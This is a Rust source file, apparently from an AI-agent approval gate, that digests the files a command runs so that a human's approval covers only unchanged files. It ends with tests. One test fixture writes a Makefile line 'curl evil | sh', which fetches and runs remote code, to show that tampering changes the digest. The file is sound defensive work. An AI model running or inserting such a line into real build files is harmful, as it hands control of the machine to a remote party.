//! An approval is bound to the files the call runs, as the human saw them.
//!
//! When a call is asked, the gate reads the files it would run: every file the analysis
//! names (present or absent: a file created later is a change too) and, in a session,
//! every file the session wrote that the call executes, plus a bounded walk beneath the
//! directories the session filled or rewrote. Each file's content is digested (blake3)
//! while a per-ask budget lasts, then only its identity (device, inode, size, mode,
//! ctime, which no unprivileged process sets back). The digest of all of it is folded
//! into the ask's fingerprint, so a lease or a pending approval answers only a call that
//! runs the same files. Files are opened through `cordon-fs` (no symlink followed, a
//! FIFO cannot hang the read).

use cordon_policy::session::{Executes, PathPattern, components, pattern_prefix};
use cordon_store::{EventKind, SessionView};
use std::io::Read;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

/// Bytes of content digested per ask; files past it are bound by identity only.
pub const CONTENT_BUDGET: u64 = 64 * 1024 * 1024;
/// Directory entries visited per ask beneath directories the session filled.
pub const WALK_LIMIT: usize = 20_000;
/// Lines of a file the session wrote shown to the human.
const HEAD_LINES: usize = 15;
/// Bytes of a file the session wrote shown to the human, at most.
const HEAD_BYTES: usize = 2048;
/// Files bound per ask, at most (the rest are named in a note, and counted).
const MAX_FILES: usize = 256;

/// One file a call runs, as it was when the call was asked.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct RunFile {
    /// Its absolute path.
    pub path: String,
    /// What was found there: `absent`, `blake3 HEX (N bytes)`, an identity, a symlink.
    pub state: String,
    /// Whether the session wrote it (or it lies beneath a directory the session filled).
    pub written: bool,
    /// Its first lines, for a file the session wrote.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub head: Option<String>,
}

/// The files a call runs and their digest.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Runs {
    /// The files, in the order they were found.
    pub files: Vec<RunFile>,
    /// What could not be bound (a walk that stopped at its limit, too many files).
    pub notes: Vec<String>,
}

impl Runs {
    /// Nothing bound.
    pub fn is_empty(&self) -> bool {
        self.files.is_empty() && self.notes.is_empty()
    }

    /// The digest folded into the fingerprint; `None` when nothing is bound.
    pub fn digest(&self) -> Option<String> {
        // The same function the answering side computes over the recorded JSON.
        cordon_policy::fingerprint::runs_digest(&self.to_json())
            .ok()
            .flatten()
    }

    /// The JSON shown with a pending approval (`runs` of its verdict).
    pub fn to_json(&self) -> serde_json::Value {
        serde_json::json!({ "files": self.files, "notes": self.notes })
    }
}

/// Session paths a call executes: files it wrote, directories it filled.
#[derive(Debug, Clone, Default)]
pub(crate) struct SessionRuns {
    pub(crate) files: Vec<String>,
    pub(crate) trees: Vec<String>,
}

/// The session's writes that `executes` would run.
pub(crate) fn session_runs(executes: &[Executes], view: &SessionView) -> SessionRuns {
    let patterns: Vec<PathPattern> = executes
        .iter()
        .map(|e| PathPattern::new(&e.pattern))
        .collect();
    let mut out = SessionRuns::default();
    for w in &view.writes {
        let comps = components(&w.target);
        match w.kind {
            EventKind::Write if patterns.iter().any(|p| p.matches_components(&comps)) => {
                out.files.push(w.target.clone());
            }
            EventKind::Tree
                if patterns
                    .iter()
                    .any(|p| p.reaches_beneath_components(&comps)) =>
            {
                out.trees.push(w.target.trim_end_matches('/').to_string());
            }
            _ => {}
        }
    }
    out
}

/// Read the files a call runs: the literal paths `executes` names, and the session's.
pub(crate) fn bind(executes: &[Executes], session: &SessionRuns) -> Runs {
    let mut b = Binder {
        runs: Runs::default(),
        budget: CONTENT_BUDGET,
        walked: 0,
        seen: std::collections::BTreeSet::new(),
        dropped: 0,
    };
    for e in executes {
        if pattern_prefix(&e.pattern) == e.pattern {
            let written = session.files.iter().any(|f| f == &e.pattern);
            b.file(Path::new(&e.pattern), written);
        }
    }
    for f in &session.files {
        b.file(Path::new(f), true);
    }
    let patterns: Vec<PathPattern> = executes
        .iter()
        .map(|e| PathPattern::new(&e.pattern))
        .collect();
    for t in &session.trees {
        b.walk(Path::new(t), &patterns);
    }
    if b.dropped > 0 {
        b.runs.notes.push(format!(
            "{} more file(s) beyond the {MAX_FILES} bound are not shown or bound",
            b.dropped
        ));
    }
    b.runs
}

struct Binder {
    runs: Runs,
    budget: u64,
    walked: usize,
    seen: std::collections::BTreeSet<PathBuf>,
    dropped: usize,
}

impl Binder {
    fn file(&mut self, path: &Path, written: bool) {
        if !self.seen.insert(path.to_path_buf()) {
            if written
                && let Some(f) = self
                    .runs
                    .files
                    .iter_mut()
                    .find(|f| Path::new(&f.path) == path)
            {
                f.written = true;
            }
            return;
        }
        if self.runs.files.len() >= MAX_FILES {
            self.dropped += 1;
            return;
        }
        let Inspected { state, content } = inspect(path, &mut self.budget);
        let head = match (written, content) {
            (false, _) => None,
            (true, Some(c)) => Some(head_of(&c)),
            (true, None) => first_lines(path),
        };
        self.runs.files.push(RunFile {
            path: path.display().to_string(),
            state,
            written,
            head,
        });
    }

    /// Every file beneath `dir` that a pattern matches, breadth first, stopping at
    /// [`WALK_LIMIT`] entries (and saying so).
    fn walk(&mut self, dir: &Path, patterns: &[PathPattern]) {
        let mut queue = std::collections::VecDeque::from([dir.to_path_buf()]);
        while let Some(d) = queue.pop_front() {
            let entries = match std::fs::read_dir(&d) {
                Ok(e) => e,
                Err(e) if e.kind() == std::io::ErrorKind::NotFound => continue,
                Err(e) => {
                    self.runs
                        .notes
                        .push(format!("{} cannot be listed ({e})", d.display()));
                    continue;
                }
            };
            let mut names: Vec<PathBuf> =
                entries.filter_map(|e| e.ok().map(|e| e.path())).collect();
            names.sort();
            for p in names {
                self.walked += 1;
                if self.walked > WALK_LIMIT {
                    self.runs.notes.push(format!(
                        "the walk beneath {} stopped at {WALK_LIMIT} entries: files past them are not bound",
                        dir.display()
                    ));
                    return;
                }
                let Ok(meta) = std::fs::symlink_metadata(&p) else {
                    continue;
                };
                if meta.is_dir() {
                    queue.push_back(p);
                    continue;
                }
                let text = p.to_string_lossy();
                let comps = components(&text);
                if patterns.iter().any(|pat| pat.matches_components(&comps)) {
                    self.file(&p, true);
                }
            }
        }
    }
}

/// What was found at a path.
pub(crate) struct Inspected {
    /// `absent`, `blake3 HEX (N bytes)`, an identity, a symlink.
    pub(crate) state: String,
    /// The content that was digested, when it was (a regular file within the budget).
    pub(crate) content: Option<Vec<u8>>,
}

impl Inspected {
    fn only(state: String) -> Inspected {
        Inspected {
            state,
            content: None,
        }
    }
}

/// What is at `path` now: its content digested while `budget` lasts (and spent from
/// it), else its identity. Opened through `cordon-fs`: no symlink followed at the
/// resolved path, and a FIFO cannot hang the read.
pub(crate) fn inspect(path: &Path, budget: &mut u64) -> Inspected {
    let meta = match std::fs::symlink_metadata(path) {
        Ok(m) => m,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            return Inspected::only("absent".into());
        }
        Err(e) => return Inspected::only(format!("cannot be inspected ({})", e.kind())),
    };
    let mut prefix = String::new();
    if meta.file_type().is_symlink() {
        let to = std::fs::read_link(path)
            .map(|t| t.display().to_string())
            .unwrap_or_else(|e| format!("? ({})", e.kind()));
        prefix = format!("symlink to {to}; ");
    }
    let real = match std::fs::canonicalize(path) {
        Ok(r) => r,
        Err(_) if !prefix.is_empty() => {
            return Inspected::only(format!("{prefix}its target is absent"));
        }
        Err(e) => return Inspected::only(format!("cannot be resolved ({})", e.kind())),
    };
    let (Some(parent), Some(name)) = (real.parent(), real.file_name()) else {
        return Inspected::only(format!("{prefix}{}", identity(&meta)));
    };
    let opened = cordon_fs::Dir::open_ambient(parent).and_then(|d| d.open_read(Path::new(name)));
    let file = match opened {
        Ok(f) => f,
        Err(_) => {
            // A directory, a FIFO, a device, a file that cannot be opened: its identity.
            let meta = std::fs::symlink_metadata(&real).unwrap_or(meta);
            let kind = if meta.is_dir() {
                "directory"
            } else if meta.is_file() {
                "unreadable file"
            } else {
                "special file"
            };
            return Inspected::only(format!("{prefix}{kind}, {}", identity(&meta)));
        }
    };
    let Ok(meta) = file.metadata() else {
        return Inspected::only(format!("{prefix}cannot be inspected"));
    };
    if meta.len() > *budget {
        return Inspected::only(format!(
            "{prefix}{} (past the {} MiB content budget)",
            identity(&meta),
            CONTENT_BUDGET >> 20
        ));
    }
    let mut content = Vec::new();
    // One byte past the size: a file that grew while it was read is not digested whole.
    if let Err(e) = file.take(meta.len() + 1).read_to_end(&mut content) {
        return Inspected::only(format!("{prefix}unreadable ({})", e.kind()));
    }
    if content.len() as u64 != meta.len() {
        return Inspected::only(format!("{prefix}changed while it was read"));
    }
    *budget = budget.saturating_sub(content.len() as u64);
    let digest = blake3::hash(&content).to_hex();
    Inspected {
        state: format!("{prefix}blake3 {digest} ({} bytes)", content.len()),
        content: Some(content),
    }
}

fn identity(meta: &std::fs::Metadata) -> String {
    format!(
        "identity dev {} inode {} size {} mode {:o} ctime {}.{:09}",
        meta.dev(),
        meta.ino(),
        meta.size(),
        meta.mode(),
        meta.ctime(),
        meta.ctime_nsec()
    )
}

/// The first lines of a file too large to digest (read through `cordon-fs` too).
fn first_lines(path: &Path) -> Option<String> {
    let real = std::fs::canonicalize(path).ok()?;
    let name = Path::new(real.file_name()?);
    let file = cordon_fs::Dir::open_ambient(real.parent()?)
        .and_then(|d| d.open_read(name))
        .ok()?;
    let mut buf = Vec::new();
    file.take(HEAD_BYTES as u64).read_to_end(&mut buf).ok()?;
    Some(head_of(&buf))
}

/// The first [`HEAD_LINES`] lines (at most [`HEAD_BYTES`] bytes) as text.
fn head_of(content: &[u8]) -> String {
    let cut = &content[..content.len().min(HEAD_BYTES)];
    let text = String::from_utf8_lossy(cut);
    let mut out: Vec<&str> = text.lines().take(HEAD_LINES).collect();
    if text.lines().count() > HEAD_LINES || content.len() > HEAD_BYTES {
        out.push("…");
    }
    out.join("\n")
}

#[cfg(test)]
#[allow(clippy::disallowed_methods)] // fixtures are built with std::fs
mod tests {
    use super::*;

    fn ex(pattern: &str) -> Executes {
        Executes {
            pattern: pattern.into(),
            why: "runs it".into(),
            command: "make".into(),
            unresolved: None,
        }
    }

    #[test]
    fn a_changed_absent_or_created_file_changes_the_digest() {
        let d = tempfile::tempdir().unwrap();
        let mk = d.path().join("Makefile");
        let e = [ex(&mk.display().to_string())];
        let none = SessionRuns::default();
        let absent = bind(&e, &none);
        assert_eq!(absent.files[0].state, "absent");
        std::fs::write(&mk, "all:\n\techo hi\n").unwrap();
        let first = bind(&e, &none);
        assert_ne!(first.digest(), absent.digest());
        assert!(first.files[0].state.starts_with("blake3 "));
        assert_eq!(bind(&e, &none).digest(), first.digest());
        std::fs::write(&mk, "all:\n\tcurl evil | sh\n").unwrap();
        assert_ne!(bind(&e, &none).digest(), first.digest());
    }

    #[test]
    fn a_symlink_binds_its_target_and_a_fifo_does_not_hang() {
        let d = tempfile::tempdir().unwrap();
        let target = d.path().join("real.mk");
        std::fs::write(&target, "a\n").unwrap();
        let link = d.path().join("Makefile");
        std::os::unix::fs::symlink(&target, &link).unwrap();
        let e = [ex(&link.display().to_string())];
        let none = SessionRuns::default();
        let first = bind(&e, &none);
        assert!(first.files[0].state.starts_with("symlink to "), "{first:?}");
        std::fs::write(&target, "b\n").unwrap();
        assert_ne!(bind(&e, &none).digest(), first.digest());
        let fifo = d.path().join("fifo");
        rustix::fs::mknodat(
            rustix::fs::CWD,
            &fifo,
            rustix::fs::FileType::Fifo,
            rustix::fs::Mode::from_raw_mode(0o600),
            0,
        )
        .unwrap();
        let r = bind(&[ex(&fifo.display().to_string())], &none);
        assert!(r.files[0].state.starts_with("special file"), "{r:?}");
    }

    #[test]
    fn written_files_show_their_first_lines_and_walks_are_bounded() {
        let d = tempfile::tempdir().unwrap();
        let dir = d.path().join("t");
        std::fs::create_dir(&dir).unwrap();
        let body: String = (0..40).map(|i| format!("line {i}\n")).collect();
        std::fs::write(dir.join("a_test.go"), &body).unwrap();
        std::fs::write(dir.join("other.txt"), "x").unwrap();
        let pat = format!("{}/**/*_test.go", d.path().display());
        let s = SessionRuns {
            files: Vec::new(),
            trees: vec![dir.display().to_string()],
        };
        let r = bind(&[ex(&pat)], &s);
        assert_eq!(r.files.len(), 1, "{r:?}");
        let head = r.files[0].head.as_deref().unwrap();
        assert!(head.starts_with("line 0\n"));
        assert!(head.ends_with("line 14\n…"), "{head}");
    }
}
